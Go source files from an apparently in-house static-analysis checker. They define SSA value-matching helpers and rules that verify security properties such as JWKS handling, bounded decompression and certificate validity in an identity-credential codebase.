			return ip.Types
		}
	}
	// search all ssa packages
	for _, sp := range p.SSA.AllPackages() {
		if sp.Pkg.Path() == path {
			return sp.Pkg
		}
	}
	return nil
}

// AnyOf matches if any matcher does.
func AnyOf(cs ...Callee) Callee {
	var d []string
	for _, c := range cs {
		d = append(d, c.Desc)
	}
	return Callee{Desc: strings.Join(d, " | "), M: func(cc *ssa.CallCommon) bool {
		for _, c := range cs {
			if c.M(cc) {
				return true
			}
		}
		return false
	}}
}

// SSAFn matches a static call to exactly this function (or closure thereof).
func SSAFn(fn *ssa.Function, desc string) Callee {
	return Callee{Desc: desc, M: func(cc *ssa.CallCommon) bool {
		if fn == nil {
			return false
		}
		if cc.StaticCallee() == fn {
			return true
		}
		return false
	}}
}

// DynParam matches a dynamic call through the function's parameter with the given name (e.g. next(c)).
func DynParam(name string) Callee {
	return Callee{Desc: "dynamic call of parameter " + name, M: func(cc *ssa.CallCommon) bool {
		if cc.IsInvoke() {
			return false
		}
		v := cc.Value
		for i := 0; i < 3; i++ {
			switch x := v.(type) {
			case *ssa.Parameter:
				return BaselineParamName(x) == name
			case *ssa.FreeVar:
				return BaselineVarName(x.Name(), x.Parent()) == name
			case *ssa.UnOp:
				v = x.X
				continue
			}
			break
		}
		return false
	}}
}

// ---------- instruction helpers ----------

func callCommon(in ssa.Instruction) *ssa.CallCommon {
	if ci, ok := in.(ssa.CallInstruction); ok {
		return ci.Common()
	}
	return nil
}

// Calls returns all call instructions in fn (not nested anon funcs) matching c.
func Calls(fn *ssa.Function, c Callee) []ssa.CallInstruction {
	var out []ssa.CallInstruction
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			if ci, ok := in.(ssa.CallInstruction); ok && c.M(ci.Common()) {
				out = append(out, ci)
			}
		}
	}
	return out
}

// CallsDeep is Calls over fn and all nested anonymous functions.
func CallsDeep(fn *ssa.Function, c Callee) []ssa.CallInstruction {
	var out []ssa.CallInstruction
	for _, f := range WithAnons(fn) {
		out = append(out, Calls(f, c)...)
	}
	return out
}

// ConstBool returns the bool value of v if it is a constant.
func ConstBool(v ssa.Value) (bool, bool) {
	c, ok := v.(*ssa.Const)
	if !ok || c.Value == nil || c.Value.Kind() != constant.Bool {
		return false, false
	}
	return constant.BoolVal(c.Value), true
}

func ConstString(v ssa.Value) (string, bool) {
	c, ok := v.(*ssa.Const)
	if !ok || c.Value == nil || c.Value.Kind() != constant.String {
		return "", false
	}
	return constant.StringVal(c.Value), true
}

func ConstInt(v ssa.Value) (int64, bool) {
	c, ok := v.(*ssa.Const)
	if !ok || c.Value == nil || c.Value.Kind() != constant.Int {
		return 0, false
	}
	return c.Int64(), true
}

func IsNilConst(v ssa.Value) bool {
	c, ok := v.(*ssa.Const)
	return ok && c.IsNil()
}

// stripConv removes interface/type conversions.
// paramSubst: while a helper function is examined on behalf of one of its call sites (wrapper lifting), a parameter of
// the helper stands for the argument passed at that site, so that value patterns written for the caller keep matching.
var paramSubst = map[*ssa.Parameter]ssa.Value{}

func stripConv(v ssa.Value) ssa.Value {
	for i := 0; i < 8; i++ {
		switch x := v.(type) {
		case *ssa.Parameter:
			if a, ok := paramSubst[x]; ok {
				v = a
				continue
			}
			return v
		case *ssa.ChangeInterface:
			v = x.X
		case *ssa.MakeInterface:
			v = x.X
		case *ssa.ChangeType:
			v = x.X
		case *ssa.Convert:
			v = x.X
		default:
			return v
		}
	}
	return v
}

// ---------- value patterns (for comparison checks) ----------

// VPat matches an SSA value.
type VPat struct {
	Desc string
	M    func(v ssa.Value) bool
}

func AnyV() VPat { return VPat{"_", func(ssa.Value) bool { return true }} }

func NilV() VPat { return VPat{"nil", IsNilConst} }

// deref strips loads.
func derefAll(v ssa.Value) ssa.Value {
	for i := 0; i < 4; i++ {
		if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
			v = u.X
			continue
		}
		break
	}
	return v
}

// FieldV matches a read of field `field` of a struct type named typ (any package), possibly dereferenced further
// (e.g. *request.ClientId).
func FieldV(typ, field string) VPat {
	return VPat{typ + "." + field, func(v ssa.Value) bool {
		v = stripConv(v)
		for i := 0; i < 4; i++ {
			switch x := v.(type) {
			case *ssa.UnOp:
				if x.Op == token.MUL {
					v = x.X
					continue
				}
				return false
			case *ssa.FieldAddr:
				return fieldNameIs(x.X.Type(), x.Field, typ, field)
			case *ssa.Field:
				return fieldNameIs(x.X.Type(), x.Field, typ, field)
			}
			return false
		}
		return false
	}}
}

// FieldBase returns the struct value (or pointer) a field read v is taken from, with conversions, loads and lifted helper
// parameters resolved; nil when v is not a field read.
func FieldBase(v ssa.Value) ssa.Value {
	v = stripConv(v)
	for i := 0; i < 4; i++ {
		switch x := v.(type) {
		case *ssa.UnOp:
			if x.Op == token.MUL {
				v = x.X
				continue
			}
			return nil
		case *ssa.FieldAddr:
			return unspillParam(stripConv(x.X))
		case *ssa.Field:
			return unspillParam(stripConv(x.X))
		}
		return nil
	}
	return nil
}

// unspillParam: a struct parameter whose fields are addressed is copied to a local cell on entry (`*t0 = param`); the cell
// stands for the parameter (and, during wrapper lifting, for the argument bound to it).
func unspillParam(v ssa.Value) ssa.Value {
	a, ok := v.(*ssa.Alloc)
	if !ok {
		return v
	}
	var only ssa.Value
	n := 0
	for _, ref := range *a.Referrers() {
		if st, isStore := ref.(*ssa.Store); isStore && st.Addr == ssa.Value(a) {
			n++
			only = st.Val
		}
	}
	if prm, isParam := only.(*ssa.Parameter); n == 1 && isParam {
		w := stripConv(prm)
		// the argument bound to the parameter is itself the content of a local struct variable of the caller: that variable
		if ld, isLoad := w.(*ssa.UnOp); isLoad && ld.Op == token.MUL {
			if al, isAlloc := ld.X.(*ssa.Alloc); isAlloc {
				return al
			}
		}
		return w
	}
	return v
}

func fieldNameIs(t types.Type, idx int, typ, field string) bool {
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	st, ok := t.Underlying().(*types.Struct)
	if !ok || idx >= st.NumFields() {
		return false
	}
	if st.Field(idx).Name() != field {
		return false
	}
	if typ == "" {
		return true
	}
	if n, ok := t.(*types.Named); ok {
		return n.Obj().Name() == typ
	}
	return false
}

// CallV matches the result (or an extracted component `idx`, -1 any) of a call matching c, looking through conversions.
func CallV(c Callee, idx int) VPat {
	return VPat{"result of " + c.Desc, func(v ssa.Value) bool {
		v = stripConv(v)
		if e, ok := v.(*ssa.Extract); ok {
			if idx >= 0 && e.Index != idx {
				return false
			}
			v = e.Tuple
		}
		call, ok := v.(*ssa.Call)
		return ok && c.M(call.Common())
	}}
}

// LenV matches len(x) where x matches inner.
func LenV(inner VPat) VPat {
	return VPat{"len(" + inner.Desc + ")", func(v ssa.Value) bool {
		call, ok := v.(*ssa.Call)
		if !ok {
			return false
		}
		b, ok := call.Call.Value.(*ssa.Builtin)
		if !ok || b.Name() != "len" || len(call.Call.Args) != 1 {
			return false
		}
		return inner.M(call.Call.Args[0])
	}}
}

func IntV(n int64) VPat {
	return VPat{"const", func(v ssa.Value) bool { x, ok := ConstInt(v); return ok && x == n }}
}

func StrV(s string) VPat {
	return VPat{"\"" + s + "\"", func(v ssa.Value) bool { x, ok := ConstString(stripConv(v)); return ok && x == s }}
}

func ParamV(name string) VPat {
	return VPat{"param " + name, func(v ssa.Value) bool {
		v = stripConv(v)
		switch x := v.(type) {
		case *ssa.Parameter:
			return BaselineParamName(x) == name
		case *ssa.FreeVar:
			return BaselineVarName(x.Name(), x.Parent()) == name
		case *ssa.UnOp: // captured variable load / parameter spilled to a cell because a closure captures it
			if fv, ok := x.X.(*ssa.FreeVar); ok {
				return BaselineVarName(fv.Name(), fv.Parent()) == name
			}
			if a, ok := x.X.(*ssa.Alloc); ok {
				for _, prm := range a.Parent().Params {
					if prm.Name() == a.Comment && BaselineParamName(prm) == name {
						return true
					}
				}
			}
		}
		return false
	}}
}

// OrV matches either pattern.
func OrV(a, b VPat) VPat {
	return VPat{a.Desc + "|" + b.Desc, func(v ssa.Value) bool { return a.M(v) || b.M(v) }}
}

// DerefOf matches loads *x where x matches inner (any depth of conversion).
func TypeNamedV(name string) VPat {
	return VPat{"value of type " + name, func(v ssa.Value) bool {
		n := recvNamed(v.Type())
		return n != nil && n.Obj().Name() == name
	}}
}

// DynType matches a dynamic call (through a function value) whose static type is a named type with this name.
func DynType(name string) Callee {
	return Callee{Desc: "dynamic call of a " + name + " value", M: func(cc *ssa.CallCommon) bool {
		if cc.IsInvoke() || cc.StaticCallee() != nil {
			return false
		}
		n := recvNamed(cc.Value.Type())
		return n != nil && n.Obj().Name() == name
	}}
}

// FieldPathEnds reports whether v is a load of a field chain ending in the given field names (e.g. "Internal","Address").
func FieldPathEnds(v ssa.Value, names ...string) bool {
	if v == nil {
		return false
	}
	v = stripConv(v)
	i := len(names) - 1
	for depth := 0; depth < 12 && i >= 0; depth++ {
		switch x := v.(type) {
		case *ssa.UnOp:
			if x.Op != token.MUL {
				return false
			}
			v = x.X
		case *ssa.FieldAddr:
			if !fieldNameIs(x.X.Type(), x.Field, "", names[i]) {
				return false
			}
			i--
			v = x.X
		case *ssa.Field:
			if !fieldNameIs(x.X.Type(), x.Field, "", names[i]) {
				return false
			}
			i--
			v = x.X
		default:
			return false
		}
	}
	return i < 0
}

// StripConv removes interface/type conversions around a value.
func StripConv(v ssa.Value) ssa.Value { return stripConv(v) }

// StoreOp matches a call of SessionStore.<method> on the store returned by the accessor function named accessor
// (e.g. r.oauthCodeStore().Put(...)).
func StoreOp(accessor, method string) Callee {
	return Callee{Desc: accessor + "()." + method, M: func(cc *ssa.CallCommon) bool {
		if !cc.IsInvoke() || cc.Method == nil || cc.Method.Name() != method {
			return false
		}
		c, ok := stripConv(cc.Value).(*ssa.Call)
		if !ok {
			return false
		}
		f := c.Common().StaticCallee()
		return f != nil && f.Name() == accessor
	}}
}

// ConstArg returns an ArgOK function requiring the idx-th declared argument to be the given bool constant.
func ConstBoolArg(idx int, want bool, what string) func(ci ssa.CallInstruction) string {
	return func(ci ssa.CallInstruction) string {
		a := CallArg(ci.Common(), idx)
		if a == nil {
			return "missing argument"
		}
		if b, ok := ConstBool(a); !ok || b != want {
			return what
		}
		return ""
	}
}

// PathV matches a value whose access path (source-like rendering) contains every given substring.
func PathV(subs ...string) VPat {
	return VPat{"value ~ " + strings.Join(subs, "…"), func(v ssa.Value) bool {
		p := AccessPath(v, 0)
		for _, s := range subs {
			if !strings.Contains(p, s) {
				return false
			}
		}
		return true
	}}
}

// DerivedV matches a value computed only from constants and leaf values matching `leaf` (at least one), through
// arithmetic, conversions and calls of statically resolved functions whose arguments are all derived the same way.
func DerivedV(leaf VPat) VPat {
	var rec func(v ssa.Value, depth int, hit *bool) bool
	rec = func(v ssa.Value, depth int, hit *bool) bool {
		if depth > 8 {
			return false
		}
		if leaf.M(v) {
			*hit = true
			return true
		}
		switch x := v.(type) {
		case *ssa.Const:
			return true
		case *ssa.BinOp:
			return rec(x.X, depth+1, hit) && rec(x.Y, depth+1, hit)
		case *ssa.Convert:
			return rec(x.X, depth+1, hit)
		case *ssa.ChangeType:
			return rec(x.X, depth+1, hit)
		case *ssa.UnOp:
			if x.Op == token.MUL {
				return false
			}
			return rec(x.X, depth+1, hit)
		case *ssa.Call:
			if x.Common().StaticCallee() == nil || x.Common().IsInvoke() {
				return false
			}
			for _, a := range x.Common().Args {
				if !rec(a, depth+1, hit) {
					return false
				}
			}
			return len(x.Common().Args) > 0
		}
		return false
	}
	return VPat{"f(" + leaf.Desc + ", constants)", func(v ssa.Value) bool {
		hit := false
		return rec(v, 0, &hit) && hit
	}}
}

// MulConstV matches inner * k (either operand order), looking through conversions of the product's operands.
func MulConstV(inner VPat, k int64) VPat {
	return VPat{fmt.Sprintf("%s * %d", inner.Desc, k), func(v ssa.Value) bool {
		bin, ok := stripConv(v).(*ssa.BinOp)
		if !ok || bin.Op != token.MUL {
			return false
		}
		for _, o := range [][2]ssa.Value{{bin.X, bin.Y}, {bin.Y, bin.X}} {
			if c, isC := ConstInt(o[1]); isC && c == k && (inner.M(o[0]) || inner.M(stripConv(o[0]))) {
				return true
			}
		}
		return false
	}}
}

// NowUnixV matches time.Now().Unix() (optionally through UTC()).
func NowUnixV() VPat {
	return VPat{"time.Now().Unix()", func(v ssa.Value) bool {
		c, ok := stripConv(v).(*ssa.Call)
		if !ok {
			return false
		}
		f := c.Common().StaticCallee()
		if f == nil || f.Name() != "Unix" || f.Pkg == nil || f.Pkg.Pkg.Path() != "time" || len(c.Common().Args) != 1 {
			return false
		}
		return NowV().M(c.Common().Args[0])
	}}
}

// NowV matches time.Now() (optionally .UTC()), also when loaded from a local the call result was stored in.
func NowV() VPat {
	return VPat{"time.Now()", func(v ssa.Value) bool {
		for i := 0; i < 4; i++ {
			v = stripConv(v)
			if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
				if a, ok := u.X.(*ssa.Alloc); ok {
					var val ssa.Value
					n := 0
					for _, ref := range *a.Referrers() {
						if st, ok := ref.(*ssa.Store); ok && st.Addr == ssa.Value(a) {
							val = st.Val
							n++
						}
					}
					if n == 1 {
						v = val
						continue
					}
				}
				return false
			}
			c, ok := v.(*ssa.Call)
			if !ok {
				return false
			}
			f := c.Common().StaticCallee()
			if f == nil || f.Pkg == nil || f.Pkg.Pkg.Path() != "time" {
				return false
			}
			if f.Name() == "Now" {
				return true
			}
			if (f.Name() == "UTC" || f.Name() == "Local") && len(c.Common().Args) == 1 {
				v = c.Common().Args[0]
				continue
			}
			return false
		}
		return false
	}}
}

// ShelfOfV matches the result of tx.GetShelfWriter(name) / tx.GetShelfReader(name) for the constant shelf name.
func ShelfOfV(name string) VPat {
	return VPat{"shelf " + name, func(v ssa.Value) bool {
		c, ok := stripConv(v).(*ssa.Call)
		if !ok || !c.Common().IsInvoke() || len(c.Common().Args) != 1 {
			return false
		}
		if m := c.Common().Method.Name(); m != "GetShelfWriter" && m != "GetShelfReader" {
			return false
		}
		s, ok := ConstString(c.Common().Args[0])
		return ok && s == name
	}}
}

// SubConstV matches inner - k.
func SubConstV(inner VPat, k int64) VPat {
	return VPat{fmt.Sprintf("%s - %d", inner.Desc, k), func(v ssa.Value) bool {
		bin, ok := stripConv(v).(*ssa.BinOp)
		if !ok || bin.Op != token.SUB {
			return false
		}
		c, isC := ConstInt(bin.Y)
		return isC && c == k && (inner.M(bin.X) || inner.M(stripConv(bin.X)))
	}}
}

// SumV matches a + b (either order), looking through conversions of the operands.
func SumV(a, b VPat) VPat {
	return VPat{a.Desc + " + " + b.Desc, func(v ssa.Value) bool {
		bin, ok := stripConv(v).(*ssa.BinOp)
		if !ok || bin.Op != token.ADD {
			return false
		}
		m := func(p VPat, x ssa.Value) bool { return p.M(x) || p.M(stripConv(x)) }
		return m(a, bin.X) && m(b, bin.Y) || m(a, bin.Y) && m(b, bin.X)
	}}
}

// OriginV matches a value that — through loads of local variables, phis (nil constants ignored), pointer dereferences and
// conversions — originates only from values matching inner (at least one).
func OriginV(inner VPat) VPat {
	var rec func(v ssa.Value, depth int, hit *bool, seen map[ssa.Value]bool) bool
	rec = func(v ssa.Value, depth int, hit *bool, seen map[ssa.Value]bool) bool {
		if depth > 10 || v == nil {
			return false
		}
		if seen[v] {
			return true
		}
		seen[v] = true
		if inner.M(v) {
			*hit = true
			return true
		}
		switch x := v.(type) {
		case *ssa.Const:
			return x.IsNil()
		case *ssa.Phi:
			for _, e := range x.Edges {
				if !rec(e, depth+1, hit, seen) {
					return false
				}
			}
			return true
		case *ssa.UnOp:
			if x.Op != token.MUL {
				return false
			}
			if a, ok := x.X.(*ssa.Alloc); ok {
				n := 0
				for _, st := range storesTo(a) {
					n++
					if !rec(st.Val, depth+1, hit, seen) {
						return false
					}
				}
				return n > 0
			}
			if fv, ok := x.X.(*ssa.FreeVar); ok {
				n := 0
				for _, st := range storesTo(fv) {
					n++
					if !rec(st.Val, depth+1, hit, seen) {
						return false
					}
				}
				return n > 0
			}
			return rec(x.X, depth+1, hit, seen)
		case *ssa.ChangeType:
			return rec(x.X, depth+1, hit, seen)
		case *ssa.Convert:
			return rec(x.X, depth+1, hit, seen)
		case *ssa.ChangeInterface:
			return rec(x.X, depth+1, hit, seen)
		case *ssa.MakeInterface:
			return rec(x.X, depth+1, hit, seen)
		}
		return false
	}
	return VPat{"value originating from " + inner.Desc, func(v ssa.Value) bool {
		hit := false
		return rec(v, 0, &hit, map[ssa.Value]bool{}) && hit
	}}
}

// OrLeaves decomposes a boolean value into the operands of a (short-circuit or bitwise) disjunction: a || b compiles to
// phi(true [on the edge where a holds], b); nested disjunctions are flattened. A value that is not a disjunction is its
// own single leaf.
func OrLeaves(v ssa.Value) []ssa.Value {
	var out []ssa.Value
	var rec func(v ssa.Value, depth int)
	rec = func(v ssa.Value, depth int) {
		if depth > 6 {
			out = append(out, v)
			return
		}
		switch x := v.(type) {
		case *ssa.BinOp:
			if x.Op == token.OR || x.Op == token.LOR {
				rec(x.X, depth+1)
				rec(x.Y, depth+1)
				return
			}
		case *ssa.Phi:
			isOr := false
			for _, e := range x.Edges {
				if c, ok := ConstBool(e); ok && c {
					isOr = true
				}
			}
			if isOr {
				blk := x.Block()
				for i, e := range x.Edges {
					if c, ok := ConstBool(e); ok && c {
						// the edge is taken when the predecessor's condition holds
						pred := blk.Preds[i]
						if iff := ifOf(pred); iff != nil {
							atom, neg := condAtom(iff.Cond)
							if !neg && pred.Succs[0] == blk {
								rec(atom, depth+1)
								continue
							}
						}
						out = append(out, e)
						continue
					}
					rec(e, depth+1)
				}
				return
			}
		}
		out = append(out, v)
	}
	rec(v, 0)
	return out
}

// TimeOrder is the check "earlier is before later", spelled earlier.Before(later) or later.After(earlier); pass says
// on which outcome the effect is allowed.
func TimeOrder(desc string, earlier, later VPat, pass Polarity) Check {
	return Check{Desc: desc, Pass: pass, Values: func(fn *ssa.Function) []ssa.Value { return TimeOrderSites(fn, earlier, later) }}
}

// TimeOrderSites returns the results of the calls in fn that compare earlier with later in that order.
func TimeOrderSites(fn *ssa.Function, earlier, later VPat) []ssa.Value {
	var out []ssa.Value
	m := func(p VPat, v ssa.Value) bool {
		if p.M(v) || p.M(stripConv(v)) {
			return true
		}
		// a time.Time held in / loaded through a pointer (e.g. *cred.ExpirationDate)
		if u, ok := stripConv(v).(*ssa.UnOp); ok && u.Op == token.MUL {
			return p.M(u.X) || p.M(stripConv(u.X))
		}
		return false
	}
	for _, b := range fn.Blocks {
		for _, in := range b.Instrs {
			c, ok := in.(*ssa.Call)
			if !ok {
				continue
			}
			f := c.Common().StaticCallee()
			if f == nil || f.Pkg == nil || f.Pkg.Pkg.Path() != "time" || len(c.Common().Args) != 2 {
				continue
			}
			recv, arg := c.Common().Args[0], c.Common().Args[1]
			switch f.Name() {
			case "Before":
				if m(earlier, recv) && m(later, arg) {
					out = append(out, c)
				}
			case "After":
				if m(later, recv) && m(earlier, arg) {
					out = append(out, c)
				}
			}
		}
	}
	return out
}

// M0 reports whether pattern other is the constant-zero pattern (used to recognise "… == 0" rules).
func (p VPat) M0(other VPat) bool {
	return other.Desc == "const" && other.M(zeroConst)
}

var zeroConst = ssa.NewConst(constant.MakeInt64(0), types.Typ[types.Int])

// LookupV matches m[key] for a map value matching m and the constant string key.
func LookupV(m VPat, key string) VPat {
	return VPat{m.Desc + "[\"" + key + "\"]", func(v ssa.Value) bool {
		v = stripConv(v)
		if ex, ok := v.(*ssa.Extract); ok && ex.Index == 0 {
			v = ex.Tuple
		}
		lk, ok := v.(*ssa.Lookup)
		if !ok {
			return false
		}
		k, isC := ConstString(stripConv(lk.Index))
		return isC && k == key && (m.M(lk.X) || m.M(stripConv(lk.X)))
	}}
}

// IsParamOrItsCell: v is the parameter `name` (baseline name), a load of it, or the local cell the parameter was spilled to
// (go/ssa spills a parameter whose address is taken or that a closure captures).
func IsParamOrItsCell(v ssa.Value, name string) bool {
	if ParamV(name).M(v) {
		return true
	}
	if a, ok := stripConv(v).(*ssa.Alloc); ok {
		for _, prm := range a.Parent().Params {
			if prm.Name() == a.Comment && BaselineParamName(prm) == name {
				return true
			}
		}
	}
	return false
}
