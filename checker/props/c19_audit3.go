package props

import (
	"go/token"
	"go/types"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// c19Audit3: rules recorded with the third audit round's repairs.
func c19Audit3(r *Report) {
	p := r.P
	// (a) a remote OpenID configuration without (or with a null) jwks keeps an empty key set: unmarshalling JSON null into
	//     the jwk.Set INTERFACE sets it to nil, and the JAR validation of the public authorization endpoint calls a method on it
	uj := p.Func("auth/oauth", "OpenIDConfiguration", "UnmarshalJSON")
	intoJWKs := InstrEffect("json.Unmarshal(_, &j.JWKs)", func(in ssa.Instruction) bool {
		c, ok := in.(*ssa.Call)
		if !ok || !Fn("std:encoding/json", "", "Unmarshal").M(c.Common()) || len(c.Call.Args) < 2 {
			return false
		}
		v := c.Call.Args[1]
		if mi, isMI := v.(*ssa.MakeInterface); isMI {
			v = mi.X
		}
		fa, isFA := v.(*ssa.FieldAddr)
		return isFA && fieldName(fa.X.Type(), fa.Field) == "JWKs"
	})
	r.Gate(Gate{ID: "C19.guard.openid-configuration-jwks-never-nil", Fn: uj, Effect: intoJWKs,
		Check: CmpCheck("claims[\"jwks\"] == nil is false", token.EQL, LookupV(AnyV(), "jwks"), NilV(), false)})
	// (b) the employer parameter of an employee-identity signing session (request body of the internal API) is asserted to be
	//     a string without comma-ok: only after checkSessionParams established that it is one
	csp := p.Func("auth/services/selfsigned", "", "checkSessionParams")
	employerIsString := Check{Desc: "params[\"employer\"].(string) ok", Pass: IsTrue, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ta, ok := in.(*ssa.TypeAssert)
				if !ok || !ta.CommaOk || types.TypeString(ta.AssertedType, nil) != "string" {
					continue
				}
				x := ta.X
				if ex, isEx := x.(*ssa.Extract); isEx {
					x = ex.Tuple
				}
				if !LookupV(AnyV(), "employer").M(x) {
					continue
				}
				for _, ref := range *ta.Referrers() {
					if ex, isEx := ref.(*ssa.Extract); isEx && ex.Index == 1 {
						out = append(out, ex)
					}
				}
			}
		}
		return out
	}}
	r.Gate(Gate{ID: "C19.guard.selfsigned-employer-is-a-string", Fn: csp, Effect: SuccessReturn(), Check: employerIsString})
	sss := p.Func("auth/services/selfsigned", "signer", "StartSigningSession")
	r.Gate(Gate{ID: "C19.guard.selfsigned-employer-is-a-string.checked-before-the-assertion", Fn: sss,
		Effect: InstrEffect("params[...].(T) without comma-ok", func(in ssa.Instruction) bool {
			ta, ok := in.(*ssa.TypeAssert)
			return ok && !ta.CommaOk
		}), Check: ErrCheck(Fn("auth/services/selfsigned", "", "checkSessionParams"))})
	// (c) the encodedList of a downloaded status list credential is inflated before its proof is verified: the expansion is bounded
	ex := p.Func("vcr/revocation", "", "expand")
	r.ArgIs("C19.term.status-list-expansion-is-bounded", ex, Fn("std:bytes", "Buffer", "ReadFrom"), 0, DerivedOrIface(CallV(Fn("std:io", "", "LimitReader"), -1)), 1)
	r.Gate(Gate{ID: "C19.term.status-list-expansion-is-bounded.over-the-bound-refused", Fn: ex, Effect: SuccessReturn(),
		Check: CmpCheck("expanded.Len() <= maxBitstringLengthInBytes", token.LEQ, CallV(Fn("std:bytes", "Buffer", "Len"), -1), AnyV(), true)})
}
