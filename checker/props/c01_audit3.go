package props

import (
	"go/token"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// recvDerefOf matches a method call's receiver that is (a load of) the idx-th result of callee c.
func recvDerefOf(c Callee, idx int) func(v ssa.Value) bool {
	return func(v ssa.Value) bool {
		for d := 0; d < 3; d++ {
			if CallV(c, idx).M(v) {
				return true
			}
			u, ok := v.(*ssa.UnOp)
			if !ok || u.Op != token.MUL {
				return false
			}
			v = u.X
		}
		return false
	}
}

// c01Audit3: rules recorded with the third audit round's repairs.
func c01Audit3(r *Report, vp *ssa.Function) {
	p := r.P
	ok := SuccessReturn()
	// (a) a presentation without credentials has no credential subject: its holder (when given) is compared with the signer
	signerStr := VPat{Desc: "PresentationSigner(presentation).String()", M: func(v ssa.Value) bool {
		c, isC := v.(*ssa.Call)
		if !isC || !Fn(goDid+"/did", "DID", "String").M(c.Common()) || len(c.Call.Args) == 0 {
			return false
		}
		return recvDerefOf(Fn("vcr/credential", "", "PresentationSigner"), 0)(c.Call.Args[0])
	}}
	r.Gate(Gate{ID: "C01.vp.credentialless-holder-is-the-signer", Fn: vp, Effect: ok,
		Check: CmpCheck("presentation.Holder.String() == signer.String()", token.EQL, CallV(Fn(goDid, "URI", "String"), -1), signerStr, true),
		Alt: []Check{
			CallCheck(Fn("vcr/credential", "", "PresenterIsCredentialSubject"), 0, NonNil),
			CmpCheck("presentation.Holder == nil", token.EQL, FieldV("VerifiablePresentation", "Holder"), NilV(), true)}})
	r.Gate(Gate{ID: "C01.vp.credentialless-holder-is-the-signer.signer-known", Fn: vp, Effect: ok,
		Check: ErrCheck(Fn("vcr/credential", "", "PresentationSigner")),
		Alt: []Check{
			CallCheck(Fn("vcr/credential", "", "PresenterIsCredentialSubject"), 0, NonNil),
			CmpCheck("presentation.Holder == nil", token.EQL, FieldV("VerifiablePresentation", "Holder"), NilV(), true)}})
	// (b) did:x509: every certificate of the chain is within its validity period at the time the DID is resolved for
	xr := p.Func("vdr/didx509", "Resolver", "Resolve")
	certNil := CmpCheck("certificate == nil", token.EQL, TypeNamedV("Certificate"), NilV(), true)
	r.Gate(Gate{ID: "C01.x509.valid-at-resolve-time.not-before", Fn: xr, Effect: ok, ForEach: true,
		Check: TimeOrder("validAt.Before(certificate.NotBefore) is false", AnyV(), FieldV("Certificate", "NotBefore"), IsFalse), Skip: []Check{certNil}})
	r.Gate(Gate{ID: "C01.x509.valid-at-resolve-time.not-after", Fn: xr, Effect: ok, ForEach: true,
		Check: TimeOrder("validAt.After(certificate.NotAfter) is false", FieldV("Certificate", "NotAfter"), AnyV(), IsFalse), Skip: []Check{certNil}})
	// the time compared is the resolve time of the metadata when one is given
	rule := "ARG: the time the certificates are compared with is metadata.ResolveTime when given (time.Now() otherwise)"
	key := "C01.x509.valid-at-resolve-time.time-is-the-resolve-time"
	if xr == nil {
		r.Lost(key, rule, "Resolve not found")
		return
	}
	sites := TimeOrderSites(xr, AnyV(), FieldV("Certificate", "NotBefore"))
	sites = append(sites, TimeOrderSites(xr, FieldV("Certificate", "NotAfter"), AnyV())...)
	n, bad := 0, ""
	for _, s := range sites {
		c := s.(*ssa.Call)
		for _, a := range c.Call.Args {
			if FieldV("Certificate", "NotBefore").M(a) || FieldV("Certificate", "NotAfter").M(a) {
				continue
			}
			if u, isU := a.(*ssa.UnOp); isU && u.Op == token.MUL && (FieldV("Certificate", "NotBefore").M(u.X) || FieldV("Certificate", "NotAfter").M(u.X)) {
				continue
			}
			n++
			if !mentionsField(a, "ResolveMetadata", "ResolveTime", 0) {
				bad = p.Pos(c.Pos())
			}
		}
	}
	r.Sites += n
	switch {
	case n < 2:
		r.Lost(key, rule, "validity comparisons not found")
	case bad != "":
		r.Bad(key, rule, bad, "the validity period is compared with a time that does not come from metadata.ResolveTime")
	default:
		r.OK(key, rule, "", "", true)
	}
}

// mentionsField: v is, or is a phi / load of a cell that is stored with, a load of the named field.
func mentionsField(v ssa.Value, typ, field string, depth int) bool {
	if depth > 5 {
		return false
	}
	if FieldV(typ, field).M(v) {
		return true
	}
	switch x := v.(type) {
	case *ssa.Phi:
		for _, e := range x.Edges {
			if mentionsField(e, typ, field, depth+1) {
				return true
			}
		}
	case *ssa.UnOp:
		if x.Op != token.MUL {
			return false
		}
		if mentionsField(x.X, typ, field, depth+1) {
			return true
		}
		if a, ok := x.X.(*ssa.Alloc); ok {
			for _, ref := range *a.Referrers() {
				if st, isSt := ref.(*ssa.Store); isSt && st.Addr == ssa.Value(a) && mentionsField(st.Val, typ, field, depth+1) {
					return true
				}
			}
		}
	}
	return false
}
