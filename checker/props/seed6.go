package props

import (
	"fmt"
	"go/token"
	"go/types"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

// Rules added after the sixth (blind) seeding round; each comment names the seed it answers. The agents of this round saw
// only the property text (no list of earlier changes).

// ---------- small generic building blocks ----------

// reachingStores: the stores to a local variable cell whose value a load can observe (flow-sensitive, intra-procedural):
// walking backwards from the load, the first store met on each path. zero=true when some path reaches the function entry
// without a store (the zero value). A cell captured by a closure is not tracked: ok=false.
func reachingStores(load *ssa.UnOp) (stores []*ssa.Store, zero bool, ok bool) {
	cell, isAlloc := load.X.(*ssa.Alloc)
	if !isAlloc || load.Op != token.MUL {
		return nil, false, false
	}
	for _, ref := range *cell.Referrers() {
		switch x := ref.(type) {
		case *ssa.MakeClosure:
			return nil, false, false
		case *ssa.Store:
			if x.Addr != cell { // the address itself is stored somewhere
				return nil, false, false
			}
		}
	}
	seen := map[*ssa.BasicBlock]bool{}
	var walk func(b *ssa.BasicBlock, from int)
	walk = func(b *ssa.BasicBlock, from int) {
		for i := from; i >= 0; i-- {
			if st, isSt := b.Instrs[i].(*ssa.Store); isSt && st.Addr == cell {
				stores = append(stores, st)
				return
			}
		}
		if len(b.Preds) == 0 {
			zero = true
			return
		}
		for _, pr := range b.Preds {
			if !seen[pr] {
				seen[pr] = true
				walk(pr, len(pr.Instrs)-1)
			}
		}
	}
	blk := load.Block()
	idx := -1
	for i, in := range blk.Instrs {
		if in == ssa.Instruction(load) {
			idx = i
		}
	}
	walk(blk, idx-1)
	return stores, zero, true
}

// ReachV: the value matches inner, or it is a load of a local variable and every assignment that can reach the load stored
// a value matching inner (the variable still holds what inner describes AT THIS POINT — a later re-assignment does not count,
// an earlier one that was overwritten neither).
func ReachV(inner VPat) VPat {
